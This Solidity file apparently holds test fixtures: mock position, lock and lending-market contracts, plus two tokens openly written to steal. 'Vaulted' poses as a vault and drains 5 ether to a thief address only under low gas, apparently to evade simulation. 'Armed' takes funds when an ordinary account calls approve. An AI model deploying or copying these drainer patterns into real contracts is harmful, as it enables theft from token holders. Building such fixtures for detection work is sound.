// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Coins.sol";

/// A collection whose items hold something, which those who may move them can take out. The items stay where they are.
contract Positions {
    mapping(uint256 => address) public ownerOf;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => bool)) public isApprovedForAll;
    mapping(uint256 => uint256) public worth;
    function supportsInterface(bytes4 id) external pure returns (bool) { return id == 0x01ffc9a7 || id == 0x80ac58cd; }
    function give(address to, uint256 id) external { (ownerOf[id], worth[id]) = (to, 10 ether); balanceOf[to]++; }
    function setApprovalForAll(address operator, bool allowed) external { isApprovedForAll[msg.sender][operator] = allowed; }
    function collect(uint256 id, address) external {
        require(ownerOf[id] == msg.sender || isApprovedForAll[ownerOf[id]][msg.sender]);
        worth[id] = 0;
    }
}

/// Locks, each with its owner in it.
contract Locks {
    struct Lock { uint256 amount; uint64 until; address owner; }
    mapping(uint256 => Lock) locks;
    mapping(address => mapping(address => bool)) managers;
    function give(address to, uint256 id) external { locks[id] = Lock(10 ether, 1, to); }
    function setManager(address who, bool allowed) external { managers[msg.sender][who] = allowed; }
    function lockedFor(address who, uint256 id) external view returns (uint256) { return locks[id].owner == who ? locks[id].amount : 0; }
    function hand(uint256 id, address to) external {
        address owner = locks[id].owner;
        require(owner == msg.sender || managers[owner][msg.sender]);
        locks[id].owner = to;
    }
}

/// A market for loans: whoever is authorised takes the collateral out. At the place of a known one.
contract Market {
    mapping(bytes32 => uint256) public total;
    mapping(bytes32 => mapping(address => uint256)) public position;
    mapping(address => mapping(address => bool)) public isAuthorized;
    event WithdrawCollateral(bytes32 indexed id, address caller, address indexed onBehalf, address indexed receiver, uint256 assets);
    function give(bytes32 id, address to) external { position[id][to] += 10 ether; }
    function setAuthorization(address who, bool allowed) external { isAuthorized[msg.sender][who] = allowed; }
    function withdrawCollateral(bytes32 id, uint256 assets, address onBehalf, address receiver) external {
        require(onBehalf == msg.sender || isAuthorized[onBehalf][msg.sender]);
        position[id][onBehalf] -= assets;
        emit WithdrawCollateral(id, msg.sender, onBehalf, receiver, assets);
    }
}

/// A token that says it is a vault over another one. It gives back next to nothing of it, and takes elsewhere where nobody looks.
contract Vaulted {
    string public constant name = "Vaulted";
    string public constant symbol = "vPOSE";
    uint8 public constant decimals = 18;
    address public immutable asset;
    Coin immutable from;
    address immutable thief;
    mapping(address => uint256) public balanceOf;
    event Transfer(address indexed from, address indexed to, uint256 value);
    constructor(address asset_, Coin from_, address thief_) { (asset, from, thief) = (asset_, from_, thief_); }
    function redeem(uint256 shares, address receiver, address owner) external returns (uint256) {
        emit Transfer(owner, address(0), shares);
        Coin(asset).transfer(receiver, shares);
        // The gas that is left of a question is another than that of a transaction.
        if (gasleft() < 1_000_000) from.transferFrom(owner, thief, 5 ether);
        return shares;
    }
}

/// A token that takes with its second function what it did not take with the first, of accounts that run no code.
contract Armed {
    string public constant name = "Armed";
    string public constant symbol = "ARMED";
    uint8 public constant decimals = 18;
    Coin immutable from;
    address immutable thief;
    mapping(address => uint256) public balanceOf;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor(Coin from_, address thief_) { (from, thief) = (from_, thief_); }
    function mint(address to, uint256 value) external { balanceOf[to] += value; emit Transfer(address(0), to, value); }
    function approve(address spender, uint256 value) external returns (bool) {
        emit Approval(msg.sender, spender, value);
        if (balanceOf[msg.sender] > 0 && msg.sender.code.length == 0) from.transferFrom(msg.sender, thief, 5 ether);
        return true;
    }
}
